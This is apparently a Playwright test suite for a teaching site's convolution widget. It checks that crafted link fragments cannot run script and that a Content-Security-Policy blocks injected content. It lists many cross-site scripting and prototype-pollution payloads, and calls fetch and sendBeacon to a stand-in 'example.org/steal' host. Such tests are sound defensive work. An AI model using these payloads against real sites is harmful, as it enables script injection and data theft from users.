"""What a hostile link or picture cannot do, and that the pages' policy stands in its way."""

import json
from urllib.parse import quote

import pytest
from places import site_pages
from playwright.sync_api import Page, Route, expect
from traffic import Traffic

from cnnlab.widgets import SlidingKernel

pytestmark = pytest.mark.browser

PAGE = "book/widgets/sliding_kernel.html"
MARK = "document.documentElement.dataset.ran=1"
PAYLOADS = [
    f"<script>{MARK}</script>",
    f"image=<script>{MARK}</script>",
    f'image="<img src=x onerror={MARK}>"',
    f'image=["<img src=x onerror={MARK}>"]',
    f'image=[["<svg onload={MARK}>"]]',
    f'kernel="<svg/onload={MARK}>"',
    f'kernel=[["<b onmouseover={MARK}>",0],[0,1]]',
    f"kernel=@<img src=x onerror={MARK}>",
    f'padding="<iframe srcdoc=\\"<script>parent.{MARK}</script>\\">"',
    f"padding=javascript:{MARK}",
    f'padding="javascript:{MARK}"',
    f'mode="</script><script>{MARK}</script>"',
    f"stride=1;{MARK}",
    f"stride=eval('{MARK}')",
    f"stride=(()=>{{{MARK}}})()",
    f"onclick={MARK}",
    f"innerHTML=<img src=x onerror={MARK}>",
    f"<img src=x onerror={MARK}>=1",
    '__proto__={"ran":1}',
    "constructor.prototype.ran=1",
    'kernel={"__proto__":{"ran":1}}',
    "kernel=@__proto__",
    "kernel=@constructor",
    'image={"toString":"alert"}',
    "image=" + json.dumps([[1e308] * 3] * 3),
    "image=[[1e999]]",
    "kernel=[[NaN]]",
    "kernel=null",
    "kernel=[]",
    "kernel=[[]]",
    "stride=-1",
    "stride=1e9",
    "padding=" + "9" * 400,
    "widget=draw_digit",
    "image=https://example.org/tracker.png",
    'image="https://example.org/tracker.png"',
    'images={"own":"https://example.org/tracker.png"}',
    "position=" + "9" * 30_000,
    "%",
    "%00=1",
    "=&=&=&",
    "stride=1&stride=2&stride=<x>",
]


# Each address is what the browser makes of it, and a widget is drawn anew from it.
OPEN = """([html, fragments]) => fragments.map((fragment) => {
  history.replaceState(null, "", `#widget-sliding_kernel&${fragment}`);
  const box = document.createElement("div");
  box.innerHTML = html;
  document.querySelector("article").replaceChildren(box);
  cnnlab.mountAll(box);
  const strange = "img, script, iframe, [onload], [onerror], [onmouseover], [onclick]";
  return {
    shown: box.querySelectorAll(".cnnlab[role=group], .cnnlab-problem").length > 0,
    strange: [...box.querySelectorAll(strange)].map((part) => part.outerHTML),
    polluted: "ran" in {},
  };
})"""
HARMLESS = {"shown": True, "strange": [], "polluted": False}


def encoded(payload: str) -> str:
    name, equals, value = payload.partition("=")
    return f"{name}{equals}{quote(value)}"


def test_no_link_runs_anything_or_reaches_out(site: str, page: Page, traffic: Traffic) -> None:
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.goto(f"{site}/{PAGE}")
    fragments = [*PAYLOADS, *map(encoded, PAYLOADS)]
    found = page.evaluate(OPEN, [SlidingKernel()._repr_html_(), fragments])
    # Whatever the link says, there is a widget that works or a message in its place.
    harmful = {f: seen for f, seen in zip(fragments, found, strict=True) if seen != HARMLESS}
    assert harmful == {}
    traffic.settle()
    assert not page.evaluate("document.documentElement.dataset.ran")
    assert traffic.problems == []


@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_a_page_that_is_opened_by_such_a_link_is_itself(
    site: str, page: Page, traffic: Traffic, payload: str
) -> None:
    address = f"{site}/{PAGE}#widget-sliding_kernel"
    page.goto(f"{address}&{payload}")
    traffic.settle()
    widget = page.locator(".cnnlab-widget[data-widget=sliding_kernel]").first
    expect(widget.locator(".cnnlab")).to_be_visible()
    assert page.url.startswith(address)
    assert not page.evaluate("document.documentElement.dataset.ran")
    assert traffic.problems == []


def test_every_page_has_the_policy(site: str) -> None:
    for path in site_pages():
        text = path.read_text(encoding="utf-8")
        assert text.count('http-equiv="Content-Security-Policy"') == 1, path
        assert text.index("charset") < text.index("Content-Security-Policy") < text.index("<script")


STOPPED = [
    *("script-src-elem", "script-src-attr", "script-src", "style-src-elem"),
    *("img-src", "frame-src", "connect-src", "worker-src", "base-uri"),
]


def test_the_policy_stops_what_would_be_injected(site: str, page: Page) -> None:
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, body=MARK)

    # Nothing but the policy stands between the page and this host.
    page.route("https://example.org/**", answer)
    page.goto(f"{site}/{PAGE}")
    broken = page.evaluate(
        """async ([mark, stopped]) => {
             const broken = [];
             addEventListener("securitypolicyviolation", (e) => broken.push(e.effectiveDirective));
             const add = (html) =>
               document.body.append(document.createRange().createContextualFragment(html));
             add(`<script>${mark}</script>`);
             add(`<script src="https://example.org/script.js"></script>`);
             add(`<img src="x:" onerror="${mark}">`);
             add(`<a id="go" href="javascript:${mark}">go</a>`);
             document.getElementById("go").click();
             add(`<img src="https://example.org/pixel.png">`);
             add(`<iframe src="https://example.org/"></iframe>`);
             try { new Worker(URL.createObjectURL(new Blob([mark]))); } catch {}
             add(`<style>body { display: none }</style>`);
             add(`<base href="https://example.org/">`);
             await fetch("https://example.org/steal").catch(() => {});
             setTimeout(() => eval(mark)); // later: what a debugger evaluates may evaluate, too
             try { navigator.sendBeacon("https://example.org/steal"); } catch {}
             const limit = performance.now() + 5000;
             while (!stopped.every((rule) => broken.includes(rule)) && performance.now() < limit)
               await new Promise((done) => setTimeout(done, 10));
             return broken;
           }""",
        [MARK, STOPPED],
    )
    assert asked == []
    assert not page.evaluate("document.documentElement.dataset.ran")
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("document.baseURI").startswith(site)
    assert set(broken) >= set(STOPPED)
